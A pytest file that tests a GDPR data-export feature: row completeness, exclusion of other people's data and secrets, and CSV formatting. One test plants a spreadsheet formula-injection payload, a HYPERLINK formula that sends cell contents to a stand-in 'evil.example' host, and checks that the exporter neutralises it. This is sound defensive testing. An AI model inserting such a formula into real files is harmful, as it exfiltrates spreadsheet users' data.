"""Export (GDPR article 15): every row about the person, checked against the
schema, as a ZIP of JSON and CSV; secrets and other people's text left out."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from typing import Any

from flask import Flask
from sqlalchemy import select

from plugin.db import Base, session_scope
from plugin.models import LeaderLedRecord, Person, StatementSubject
from plugin.services.privacy.export import export_person
from plugin.services.privacy.registry import REGISTRY

from .world import NOW, Org, fill_every_personal_table, person_columns


def _export(app: Flask, who: int) -> tuple[dict[str, Any], zipfile.ZipFile]:
    with session_scope(app) as session:
        found = export_person(session, session.get_one(Person, who), now=NOW)
    archive = zipfile.ZipFile(io.BytesIO(found.data))
    document = json.loads(archive.read("leaderled-export.json"))
    assert found.filename == f"leaderled-export-{who}-20261201.zip"
    assert found.rows == {name: len(rows) for name, rows in document["tables"].items()}
    return document, archive


def _pk(table: Any, row: dict[str, Any]) -> tuple[str, ...]:
    return tuple(str(row[c.name]) for c in table.primary_key.columns)


def test_the_export_holds_every_row_of_every_table_that_points_at_the_person(
    privacy_app: Flask, org: Org
) -> None:
    bo = org.people["bo"]
    fill_every_personal_table(privacy_app, bo)
    document, _ = _export(privacy_app, bo)
    tables = document["tables"]
    assert set(tables) == {t.name for t in REGISTRY.tables()}
    for name, rows in tables.items():
        assert rows, f"the export has no {name} row about the person"
    with session_scope(privacy_app) as session:
        for table, column in person_columns():
            expected = {
                _pk(table, dict(row))
                for row in session.execute(
                    select(table).where(table.c[column.name] == bo)
                ).mappings()
            }
            exported = {
                _pk(table, {c.name: row.get(c.name) for c in table.columns})
                for row in tables.get(table.name, [])
            }
            assert expected <= exported, f"{table.name}.{column.name}: rows about Bo missing"


def test_the_export_lists_every_statement_that_names_the_person(
    privacy_app: Flask, org: Org
) -> None:
    bo = org.people["bo"]
    document, _ = _export(privacy_app, bo)
    with session_scope(privacy_app) as session:
        named = set(
            session.scalars(
                select(StatementSubject.statement_id).where(StatementSubject.person_id == bo)
            )
        )
    # taught (2.0 only names attendees; this org is 1.0.3), attended, the
    # coaching moment, the mentoring moment, Bo's confirmation and rating.
    assert len(named) == 5
    listed = {row["statement_id"] for row in document["tables"]["statement_subject"]}
    assert listed == named
    assert named <= {row["statement_id"] for row in document["tables"]["outbox"]}


def test_free_text_is_exported_only_where_it_is_the_persons_to_see(
    privacy_app: Flask, org: Org
) -> None:
    document, _ = _export(privacy_app, org.people["bo"])
    notes = {row["id"]: row["notes"] for row in document["tables"]["leader_led_record"]}
    assert notes[org.records["coaching"]] == (
        "Coaching note: Bo Zeldzaam wants to lead the next call"
    )
    assert notes[org.records["mentoring"]] == "Group mentoring note"
    assert notes[org.records["session"]] is None  # Ada's own note on the session
    assert notes[org.records["bo_confirms"]] == "Useful for Bo"
    assert org.records["dee_confirms"] not in notes  # Dee's confirmation is Dee's
    assert org.records["south"] not in notes


def test_other_peoples_rows_and_secrets_stay_out(privacy_app: Flask, org: Org) -> None:
    bo = org.people["bo"]
    document, archive = _export(privacy_app, bo)
    tables = document["tables"]
    assert {row["person_id"] for row in tables["record_participant"]} == {bo}
    assert {row["id"] for row in tables["person"]} == {bo}
    assert "token_hash" not in tables["lti_launch_session"][0]
    assert "statement_json" not in tables["outbox"][0]
    text = json.dumps(document)
    assert "Dee Anders" not in text
    assert "dee@example.org" not in text
    # Views of Dee's record by Bo are Bo's data too (he looked), views of Bo by others too.
    subjects = {(row["subject_id"], row["viewer_id"]) for row in tables["access_log"]}
    assert subjects == {
        (bo, org.people["ada"]),
        (bo, org.people["cy"]),
        (org.people["dee"], bo),
    }
    assert len(tables["formal_record"]) == 2  # one resolved to Bo, one by his key only
    names = set(archive.namelist())
    assert {"README.txt", "leaderled-export.json"} <= names
    assert {f"tables/{t.name}.csv" for t in REGISTRY.tables()} <= names


def test_csv_has_a_header_and_a_line_per_row(privacy_app: Flask, org: Org) -> None:
    document, archive = _export(privacy_app, org.people["bo"])
    rows = list(csv.reader(io.StringIO(archive.read("tables/leader_led_record.csv").decode())))
    table = Base.metadata.tables["leader_led_record"]
    assert rows[0] == [c.name for c in table.columns]
    assert len(rows) - 1 == len(document["tables"]["leader_led_record"])
    details = rows[0].index("details")
    assert all(json.loads(line[details]) is not None for line in rows[1:])


def test_csv_text_never_runs_as_a_formula_while_the_json_keeps_it_exact(
    privacy_app: Flask, org: Org
) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    with session_scope(privacy_app) as session:  # a title Ada typed, in Bo's export
        session.get_one(LeaderLedRecord, org.records["coaching"]).title = formula
    document, archive = _export(privacy_app, org.people["bo"])
    rows = list(csv.DictReader(io.StringIO(archive.read("tables/leader_led_record.csv").decode())))
    titles = {int(row["id"]): row["title"] for row in rows}
    assert titles[org.records["coaching"]] == "'" + formula
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    exact = {row["id"]: row["title"] for row in document["tables"]["leader_led_record"]}
    assert exact[org.records["coaching"]] == formula
    assert "apostrophe" in archive.read("README.txt").decode()
